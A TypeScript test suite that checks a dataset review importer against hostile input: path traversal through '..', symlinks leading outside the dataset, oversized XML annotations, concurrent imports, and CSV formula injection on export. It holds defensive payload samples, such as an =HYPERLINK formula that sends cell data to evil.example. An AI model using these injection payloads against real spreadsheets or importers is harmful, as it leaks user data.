/**
 * The review import against a hostile dataset and a busy store, on a real generated Stanford 40 folder, a
 * real file outside it, a real SQLite file and a small real TF.js GAP model: entries and links leading out
 * of the dataset are reported and skipped, an oversized annotation is skipped, concurrent imports of one
 * dataset over separate connections all succeed and leave a consistent store, and the CSV export neither
 * tells server paths nor carries formulas.
 */
import { appendFile, copyFile, mkdir, mkdtemp, readFile, readdir, rm, symlink, unlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import '@tensorflow/tfjs-backend-cpu';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeGeneratedDataset } from '../../datasets/index.ts';
import { smallGapDenseNet, writeLayersModel } from '../../lab/builders/index.ts';
import { load, type CamModel } from '../../models/index.ts';
import { exportCsv, importForReview, ReviewStore, type ReviewImportResult } from '../../review/index.ts';

let dir: string;
let data: string;
let outside: string;
let model: CamModel;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'camstream-review-safety-'));
  data = join(dir, 'actions');
  outside = join(dir, 'outside');
  await writeGeneratedDataset(data, { layout: 'stanford40', n: 24, seed: 5, size: 48 });
  const modelDir = join(dir, 'model');
  await writeLayersModel(smallGapDenseNet(3, { inputSize: [32, 32], numClasses: 10, width: 4 }), modelDir);
  model = await load(modelDir, { backend: 'cpu' });
}, 120_000);

afterAll(async () => {
  await model?.dispose();
  await rm(dir, { recursive: true, force: true });
});

/** The first image of the dataset and its class, from the split files. */
async function firstListed(): Promise<{ className: string; file: string }> {
  const splits = join(data, 'ImageSplits');
  const name = (await readdir(splits)).filter((f) => f.endsWith('_train.txt')).sort()[0];
  const file = (await readFile(join(splits, name), 'utf8')).split('\n')[0].trim();
  return { className: name.replace(/_train\.txt$/, ''), file };
}

describe('a hostile review dataset', () => {
  let result: ReviewImportResult;
  let store: ReviewStore;
  let victim: string;
  let linked: string;
  let huge: string;

  beforeAll(async () => {
    await mkdir(outside, { recursive: true });
    const { className, file } = await firstListed();
    // A real image and annotation outside the dataset, reached by '..' from a split file.
    await copyFile(join(data, 'JPEGImages', file), join(outside, 'x.jpg'));
    const xml = await readFile(join(data, 'XMLAnnotations', file.replace(/\.jpg$/, '.xml')), 'utf8');
    await writeFile(join(outside, 'x.xml'), xml.replace(file, 'x.jpg'));
    await appendFile(join(data, 'ImageSplits', `${className}_train.txt`), '../../outside/x.jpg\n');
    // A listed image replaced by a link to a file outside.
    const splits = (await readFile(join(data, 'ImageSplits', `${className}_test.txt`), 'utf8')).split('\n').filter(Boolean);
    linked = join(data, 'JPEGImages', splits[0].trim());
    await unlink(linked);
    await symlink(join(outside, 'x.jpg'), linked);
    // An annotation padded past the default cap (256 KiB) with a comment.
    const others = (await readFile(join(data, 'ImageSplits', 'test.txt'), 'utf8')).split('\n').map((l) => l.trim());
    victim = others.find((f) => f !== '' && f !== splits[0].trim())!.replace(/\.jpg$/, '.xml');
    huge = join(data, 'XMLAnnotations', victim);
    await appendFile(huge, `<!-- ${'x'.repeat(300 * 1024)} -->\n`);

    store = ReviewStore.open(join(dir, 'home-hostile', 'review.db'));
    result = await importForReview(store, model, data, { name: 'hostile', batchSize: 4 });
  }, 120_000);

  afterAll(() => store?.close());

  it('reports and skips a split-file entry that climbs out of the dataset', () => {
    const issue = result.issues.find((i) => i.reason.includes("'../../outside/x.jpg'"));
    expect(issue, JSON.stringify(result.issues)).toMatchObject({ severity: 'skipped' });
    expect(issue!.reason).toMatch(/outside the dataset folder/);
  });

  it('reports and skips an image that is a link to a file outside', () => {
    const issue = result.issues.find((i) => i.path === linked);
    expect(issue, JSON.stringify(result.issues)).toMatchObject({ severity: 'skipped' });
    expect(issue!.reason).toMatch(/outside the dataset folder/);
  });

  it('stores no image outside the dataset folder', () => {
    const images = store.images(result.datasetId);
    expect(images.length).toBe(result.summary.totalImages);
    for (const im of images) {
      expect(im.path.startsWith(`${data}/`), im.path).toBe(true);
      expect(im.path).not.toContain('outside');
    }
  });

  it('skips an annotation larger than the cap, naming the file and the limit', () => {
    const issue = result.issues.find((i) => i.path === huge);
    expect(issue, JSON.stringify(result.issues)).toMatchObject({ severity: 'skipped' });
    expect(issue!.reason).toMatch(/larger than the limit of 262144 bytes/);
  });

  it('exports CSV with paths relative to the dataset and formulas neutralised', () => {
    const rows = store.rows(result.datasetId, { split: 'all' });
    store.setDecision(rows[0].id, { note: '=HYPERLINK("http://evil.example/?"&A1,"click")' });
    store.setDecision(rows[1].id, { note: '@SUM(1+1)' });
    store.setDecision(rows[2].id, { note: '-2+3' });
    store.setDecision(rows[3].id, { note: '+1' });
    const csv = exportCsv(store, 'hostile');
    expect(csv).not.toContain(dir);
    const lines = csv.trimEnd().split('\n');
    const header = lines[0].split(',');
    expect(header.at(-1)).toBe('path');
    for (const line of lines.slice(1)) expect(line).toMatch(/,JPEGImages\/[\w.]+\.jpg$/);
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(csv).toContain(",'@SUM(1+1),");
    expect(csv).toContain(",'-2+3,");
    expect(csv).toContain(",'+1,");
    // Cells no one can type (numbers, booleans) keep their value; no cell starts a formula.
    for (const line of lines.slice(1)) {
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@]/);
    }
  });
});

describe('concurrent imports of one dataset', () => {
  it('all succeed over separate connections and leave one consistent dataset', async () => {
    // Two versions of one dataset (a re-import after an edit), imported under one name four times at once.
    const edited = join(dir, 'actions-edited');
    await writeGeneratedDataset(edited, { layout: 'stanford40', n: 12, seed: 9, size: 48 });
    const db = join(dir, 'home-concurrent', 'review.db');
    const stores = [0, 1, 2, 3].map(() => ReviewStore.open(db));
    try {
      const outcomes = await Promise.allSettled(
        stores.map((s, i) => importForReview(s, model, i % 2 === 0 ? edited : data, { name: 'same', batchSize: 2 })),
      );
      const failures = outcomes.filter((o) => o.status === 'rejected').map((o) => String((o as PromiseRejectedResult).reason));
      expect(failures).toEqual([]);
    } finally {
      for (const s of stores) s.close();
    }
    const store = ReviewStore.open(db);
    try {
      expect(store.listDatasets().map((d) => d.name)).toEqual(['same']);
      const d = store.requireDataset('same');
      expect(d.summary).not.toBeNull();
      // The images, the analysis and the root all come from the same import.
      const images = store.images(d.id);
      expect(images.length).toBe(d.summary!.totalImages);
      for (const im of images) expect(im.path.startsWith(`${d.root}/`), im.path).toBe(true);
      const rows = store.rows(d.id, { split: 'all' });
      expect(rows.map((r) => r.id).sort()).toEqual(images.map((im) => im.id).sort());
      for (const r of rows) expect(store.maps(r.id).length).toBeGreaterThan(0);
    } finally {
      store.close();
    }
  }, 120_000);
});
